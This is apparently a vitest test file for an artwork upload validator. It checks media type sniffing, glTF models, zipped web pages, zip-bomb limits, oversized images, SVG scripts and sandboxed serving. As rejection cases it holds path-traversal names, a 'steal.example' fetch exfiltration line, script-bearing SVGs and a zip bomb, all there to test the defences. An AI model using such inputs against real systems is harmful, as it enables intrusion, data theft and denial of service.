import { Problem } from '@vitrine/protocol'
import { strToU8, zipSync } from 'fflate'
import sharp from 'sharp'
import { expect, test } from 'vitest'
import { testWorld } from '../../../testing/test-world.ts'
import { filmOrSoundOf } from './film-or-sound.ts'
import { keepableModel } from './model.ts'
import { readWebFace, webFaceLimits } from './web-face.ts'

async function refusalOf(work: () => unknown): Promise<string> {
  try {
    await work()
    return 'nothing'
  } catch (error) {
    return error instanceof Problem ? error.code : String(error)
  }
}

const box = (name: string, size: number, given = size) => {
  const bytes = Buffer.alloc(size)
  bytes.writeUInt32BE(given, 0)
  bytes.write(name, 4, 'latin1')
  return bytes
}
const film = (more: Buffer = box('mdat', 200)) => {
  const head = box('ftyp', 16)
  head.write('isom', 8, 'latin1')
  return Buffer.concat([head, box('moov', 40), more])
}
const glb = (description: object) => {
  const text = Buffer.from(JSON.stringify(description).padEnd(100))
  const head = Buffer.alloc(20)
  head.write('glTF', 0)
  for (const [index, word] of [2, 20 + text.length, text.length, 0x4e4f534a].entries())
    head.writeUInt32LE(word, 4 + index * 4)
  return Buffer.concat([head, text])
}
const page = (files: Record<string, string>) =>
  zipSync(Object.fromEntries(Object.entries(files).map(([path, text]) => [path, strToU8(text)])))

test('films and sounds are told by what is in them, and half a file is refused', async () => {
  expect(filmOrSoundOf(film())).toEqual({ kind: 'film', ending: 'mp4' })
  expect(await refusalOf(() => filmOrSoundOf(film().subarray(0, 150)))).toBe('artwork.cut_off')
  expect(await refusalOf(() => filmOrSoundOf(film(box('mdat', 60, 4000))))).toBe('artwork.cut_off')
  expect(filmOrSoundOf(Buffer.from('MZ\u0090\u0000 a program'))).toBeNull()
  const webm = (segment: number[]) =>
    Buffer.concat([
      Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x87, 0x42, 0x82, 0x84]),
      Buffer.from('webm'),
      Buffer.from(segment),
    ])
  expect(filmOrSoundOf(webm([0x18, 0x53, 0x80, 0x67, 0x81, 0]))).toEqual({ kind: 'film', ending: 'webm' })
  expect(filmOrSoundOf(webm([0x18, 0x53, 0x80, 0x67, 0x01, 255, 255, 255, 255, 255, 255, 255, 1]))).toEqual({
    kind: 'film',
    ending: 'webm',
  })
  expect(await refusalOf(() => filmOrSoundOf(webm([0x18, 0x53, 0x80, 0x67, 0x88, 0, 0])))).toBe('artwork.cut_off')
  const wave = Buffer.alloc(44)
  wave.write('RIFF', 0)
  wave.writeUInt32LE(36, 4)
  wave.write('WAVE', 8)
  expect(filmOrSoundOf(wave)).toEqual({ kind: 'sound', ending: 'wav' })
  expect(await refusalOf(() => filmOrSoundOf(wave.subarray(0, 30)))).toBe('artwork.cut_off')
})

test('a model is kept when phones can show it and it needs nothing beside it', async () => {
  const model = glb({ asset: { version: '2.0' }, nodes: [{ name: 'nothing much' }] })
  expect(keepableModel(model)).toBe('glb')
  expect(await refusalOf(() => keepableModel(model.subarray(0, 40)))).toBe('artwork.cut_off')
  const text = (more: object) => strToU8(JSON.stringify({ asset: { version: '2.0' }, ...more }))
  expect(keepableModel(text({}))).toBe('gltf')
  for (const more of [
    { buffers: [{ uri: 'scene.bin', byteLength: 4 }] },
    { images: [{ uri: 'https://elsewhere.example/a.png' }] },
    { nodes: [{ children: [0] }] },
    { accessors: [{ count: 9_000_000 }] },
  ]) {
    expect([more, await refusalOf(() => keepableModel(text(more)))]).toEqual([more, 'artwork.model_not_showable'])
  }
})

test('a web face keeps to its folder, its size and its box', async () => {
  const whole = { 'site/index.html': '<p>Hi</p><img src="a.png">', 'site/a.png': 'x', '__MACOSX/site/._a': 'x' }
  expect([...readWebFace(page(whole)).keys()]).toEqual(['index.html', 'a.png'])
  expect([...readWebFace(page({ 'index.html': 'Hi', 'js/a.js': 'import "./b.js"' })).keys()]).toHaveLength(2)

  const refused: [string, Record<string, string>][] = [
    ['web_face.no_index', { 'page.html': 'x' }],
    ['web_face.path_outside', { 'index.html': 'x', '../../etc/cron.d/evil': 'x' }],
    ['web_face.path_outside', { 'index.html': 'x', '/etc/passwd': 'x' }],
    ['web_face.path_outside', { 'index.html': 'x', 'a\\..\\..\\b.js': 'x' }],
    ['web_face.path_outside', { 'index.html': 'x', 'C:evil.js': 'x' }],
    ['web_face.file_not_accepted', { 'index.html': 'x', 'setup.exe': 'x' }],
    ['web_face.file_not_accepted', { 'index.html': 'x', '.htaccess': 'x' }],
    ['web_face.reaches_out', { 'index.html': '<script src="https://cdn.example/a.js"></script>' }],
    ['web_face.reaches_out', { 'index.html': '<img src=//tracker.example/p.gif>' }],
    ['web_face.reaches_out', { 'index.html': '<a href="https://elsewhere.example">Go</a>' }],
    ['web_face.reaches_out', { 'index.html': '<meta http-equiv="refresh" content="0;url=/x">' }],
    ['web_face.reaches_out', { 'index.html': '<iframe srcdoc="x"></iframe>' }],
    ['web_face.reaches_out', { 'index.html': 'x', 'a.css': '@import "https://fonts.example/a.css";' }],
    ['web_face.reaches_out', { 'index.html': 'x', 'a.css': 'body { background: url( "//a.example/b" ) }' }],
    ['web_face.reaches_out', { 'index.html': 'x', 'a.js': 'fetch(`https://steal.example/?c`)' }],
    ['web_face.reaches_out', { 'index.html': 'x', 'a.js': 'new WebSocket("wss://a.example")' }],
    ['web_face.reaches_out', { 'index.html': 'x', 'a.js': 'window.top.location = "/"' }],
    [
      'web_face.too_many_files',
      Object.fromEntries(Array.from({ length: webFaceLimits.files + 1 }, (_, at) => [`${at}.txt`, 'x'])),
    ],
  ]
  for (const [code, files] of refused) {
    expect([Object.keys(files).slice(0, 3), await refusalOf(() => readWebFace(page(files)))]).toEqual([
      Object.keys(files).slice(0, 3),
      code,
    ])
  }
})

test('a zip that would unfold to gigabytes is given up early, whatever it says of itself', async () => {
  const bomb = zipSync({ 'index.html': new Uint8Array(120_000_000) }, { level: 9 })
  expect(bomb.length).toBeLessThan(2_000_000)
  const said = Buffer.from(bomb)
  // What its heads say of its size.
  said.writeUInt32LE(10, 22)
  const before = process.cpuUsage()
  expect(await refusalOf(() => readWebFace(bomb))).toBe('web_face.too_large_unpacked')
  expect(await refusalOf(() => readWebFace(said))).toBe('web_face.too_large_unpacked')
  // Unfolding all of it takes longer.
  expect(process.cpuUsage(before).user / 1e6).toBeLessThan(10)
  const half = page({ 'index.html': 'x'.repeat(5000), 'b.txt': Array.from({ length: 5000 }, (_, at) => at).join() })
  expect(await refusalOf(() => readWebFace(half.subarray(0, half.length - 2000)))).toMatch(/cut_off/)
})

test('no text makes looking through a web face take long', async () => {
  const before = process.cpuUsage()
  for (const part of ['<meta ', '<', ' src=', ' src = ', 'url( ', '@import ', 'fetch( ', '<iframe']) {
    await refusalOf(() => readWebFace(page({ 'index.html': part.repeat(200_000) })))
  }
  expect(process.cpuUsage(before).user / 1e6).toBeLessThan(20)
})

test('a picture of 30,000 × 30,000 and an SVG with a script are refused by name', async () => {
  const { app } = await testWorld()
  const huge = `<svg xmlns="http://www.w3.org/2000/svg" width="15000" height="15000"><rect width="9" height="9"/></svg>`
  expect(await refusalOf(() => app.artwork.keep(strToU8(huge), 'sol'))).toBe('media.too_many_pixels')
  const png = await sharp({ create: { width: 8_000, height: 8_000, channels: 3, background: '#000' } })
    .png()
    .toBuffer()
  png.writeUInt32BE(30_000, 16)
  png.writeUInt32BE(30_000, 20)
  expect(await refusalOf(() => app.artwork.keep(png, 'sol'))).toBe('media.too_many_pixels')
  for (const svg of [
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)"/>',
  ]) {
    expect(await refusalOf(() => app.artwork.keep(strToU8(svg), 'sol'))).toBe('media.has_script')
  }
  expect(await refusalOf(() => app.artwork.keep(strToU8('MZ a program'), 'sol'))).toBe('artwork.type_not_accepted')
})

test('a web face is served in its box, from the media that a backup takes', async () => {
  const { app } = await testWorld()
  const { url, kind } = await app.artwork.keep(page({ 'index.html': '<p>Hi</p>', 'js/a.js': 'let a' }), 'sol')
  expect([kind, url]).toEqual(['web-face', expect.stringMatching(/^\/faces\/b\/[\w-]{43}\/$/)])
  expect(await app.mediaStore.find(`${url.split('/')[3]}.zip`)).not.toBeNull()
  const shown = await app.http.inject({ url })
  expect([shown.statusCode, shown.body]).toEqual([200, '<p>Hi</p>'])
  const policy = String(shown.headers['content-security-policy'])
  expect(policy).toMatch(/^sandbox allow-scripts allow-forms; default-src 'none'; /)
  expect(policy).not.toMatch(/allow-same-origin|allow-top-navigation|allow-popups|connect-src|https:;/)
  expect((await app.http.inject({ url: `${url}js/a.js` })).headers['content-type']).toMatch(
    /^(text|application)\/javascript/,
  )
  for (const other of [
    `${url}../../../etc/passwd`,
    `${url}..%2f..%2fmedia`,
    '/faces/b/none/',
    `/faces/b/${'a'.repeat(43)}/`,
  ]) {
    expect([other, (await app.http.inject({ url: other })).statusCode]).toEqual([other, 404])
  }
})
